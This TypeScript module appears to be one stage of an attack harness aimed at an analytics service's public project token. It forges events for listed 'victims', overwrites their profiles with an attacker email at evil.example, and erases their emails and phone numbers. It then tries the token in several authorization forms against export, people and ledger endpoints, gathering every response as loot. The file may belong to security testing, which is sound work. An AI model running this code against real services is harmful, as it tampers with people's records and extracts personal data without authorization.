/**
 * D11: the project's public token, which stands in every page. Sends events of its own making, sets values of people whose
 * ids it knows, and tries the token at every door that reads.
 */
import { type Haul, haulOf } from '../loot.ts'
import { ask } from './walk-api.ts'

export interface TokenHolds {
  readonly url: string
  readonly token: string
  readonly project: number
  /** Ids that it knows. */
  readonly victims: readonly string[]
  readonly now: number
}

export async function publicToken({ url, token, project, victims, now }: TokenHolds): Promise<Haul> {
  const texts: string[] = []
  const send = async (path: string, body: unknown) => void texts.push((await ask(url, {}, 'POST', `${path}?verbose=1`, body)).text)
  await send('/track', victims.map((id, n) => ({ event: 'Visited', properties: { token, distinct_id: id, time: now - n, $insert_id: `forged-${n}` } })))
  await send('/engage', victims.map((id) => ({ $token: token, $distinct_id: id, $set: { $email: `mallory+${id}@evil.example`, $name: 'Mallory' } })))
  await send('/engage', victims.map((id) => ({ $token: token, $distinct_id: id, $unset: ['$email', '$phone'] })))
  const shown = [`Basic ${Buffer.from(`${token}:`).toString('base64')}`, `Basic ${Buffer.from(`:${token}`).toString('base64')}`, `Bearer ${token}`]
  const doors: readonly [string, string, unknown?][] = [
    ['GET', `/api/2.0/export?project_id=${project}&from_date=2020-01-01&to_date=2099-01-01`], ['POST', `/api/query/engage?project_id=${project}`, {}],
    ['POST', `/api/2.0/engage?project_id=${project}`, {}], ['GET', `/v1/projects/${project}/people?limit=500`], ['GET', '/v1/ledger/entries'],
    ['POST', `/v1/projects/${project}/find`, { value: victims[0] ?? '', reason: 'Case 1' }],
  ]
  for (const authorization of shown) for (const [method, path, body] of doors) texts.push((await ask(url, { authorization }, method, path, body)).text)
  return haulOf({ texts })
}
